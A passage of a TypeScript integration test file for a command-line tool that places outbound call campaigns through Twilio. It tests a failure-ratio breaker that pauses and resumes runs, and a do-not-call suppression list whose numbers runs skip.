    expect(result.stdout).toBe('');
    expect(result.stderr).toMatch(message);
    expect(result.stderr).toContain('(HTTP 400 invalid_request)');
    // Nobody called this lead. (Not the double's create count: an earlier test's run may still be dialing.)
    expect(stack.simulator!.calls().filter((call) => call.to === lead)).toEqual([]);
  });

  test('a run its breaker paused: runs show says why; resume goes on', async () => {
    // One call at a time; the first lead is a number Twilio refuses, which trips a breaker of one call.
    const result = await cli([
      'runs',
      'create',
      file('breaker.csv', leadsCsv([INVALID_NUMBER, ...phones(2)])),
      '--concurrency',
      '1',
      '--pause-failed-ratio',
      '0',
      '--pause-min-calls',
      '1',
    ]);
    expect(result, result.stderr).toMatchObject({ code: EXIT.ok });
    const runId = result.stdout.trim();
    await waitForStatus(runId, ['paused']);
    const show = await cli(['runs', 'show', runId]);
    expect(show.stdout).toContain(
      'paused:    pause_when: 1 of the last 1 calls failed (more than failed_ratio 0)',
    );
    // Whether another lead was dialed in the moment between the release and the pause is timing; that
    // nothing is dialed once paused, and not before the ratio is passed, is test/integration/schedule.test.ts's.
    expect((await cli(['runs', 'resume', runId])).code).toBe(EXIT.ok);
    await waitForStatus(runId, ['completed']);
    const after = JSON.parse((await cli(['runs', 'show', runId, '--format', 'json'])).stdout);
    expect(after).toMatchObject({ pause_reason: null, completed: 2, failed: 1, outcomes: { rejected: 1 } });
  });
});

describe('the suppression list from the command line', () => {
  test('suppressions add, list, import, remove; a run skips the numbers; calls --outcome finds them', async () => {
    const [first, second, third, called] = phones(4) as [string, string, string, string];
    const added = await cli(['suppressions', 'add', first, '--reason', 'dnc-registry']);
    expect(added, added.stderr).toMatchObject({ code: EXIT.ok, stdout: `${first}\n` });
    expect(added.stderr).toContain('suppressed (dnc-registry)');

    const invalid = await cli(['suppressions', 'add', '+1555']);
    expect(invalid.code).toBe(EXIT.invalidInput);
    expect(invalid.stderr).toMatch(/phone: /);
    const absent = await cli(['suppressions', 'remove', called]);
    expect(absent.code).toBe(EXIT.notFound);
    const usage = await cli(['suppressions']);
    expect(usage).toMatchObject({ code: EXIT.usage });
    expect(usage.stderr).toContain('suppressions needs a subcommand: add, remove, list or import');

    // An import is every row or none: a bad line is named and nothing is stored.
    const bad = await cli([
      'suppressions',
      'import',
      file('bad-dnc.csv', `phone\n${second}\nnot-a-number\n`),
    ]);
    expect(bad.code).toBe(EXIT.invalidInput);
    expect(bad.stderr).toContain('line 3: phone: ');
    const notYet = JSON.parse(
      (await cli(['suppressions', 'list', '--prefix', second, '--format', 'json'])).stdout,
    ) as { suppressions: unknown[] };
    expect(notYet.suppressions).toEqual([]);
    const imported = await cli([
      'suppressions',
      'import',
      file('dnc.csv', `phone,reason\n${second},complaint\n${third},complaint\n`),
    ]);
    expect(imported, imported.stderr).toMatchObject({ code: EXIT.ok, stdout: '2\n' });

    const listed = await cli(['suppressions', 'list', '--prefix', first.slice(0, 8)]);
    expect(listed.code).toBe(EXIT.ok);
    for (const phone of [first, second, third]) expect(listed.stdout).toContain(phone);
    expect(listed.stdout).toContain('dnc-registry');

    const path = file('with-dnc.csv', leadsCsv([first, second, third, called]));
    const run = await cli(['runs', 'create', path, '--concurrency', '2']);
    const runId = run.stdout.trim();
    await waitForStatus(runId, ['completed']);
    const creates = stack.simulator!.calls().filter((call) => call.run === runId);
    expect(creates.map((call) => call.to)).toEqual([called]);
    const skipped = JSON.parse(
      (await cli(['calls', runId, '--outcome', 'suppressed', '--format', 'json', '--reveal-phone'])).stdout,
    ) as { phone: string; status: string; call_sid: string | null }[];
    expect(skipped.map((call) => call.phone)).toEqual([first, second, third]);
    expect(skipped.every((call) => call.status === 'failed' && call.call_sid === null)).toBe(true);

    const removed = await cli(['suppressions', 'remove', first]);
    expect(removed.code, removed.stderr).toBe(EXIT.ok);
    expect((await cli(['suppressions', 'remove', first])).code).toBe(EXIT.notFound);
  });
});
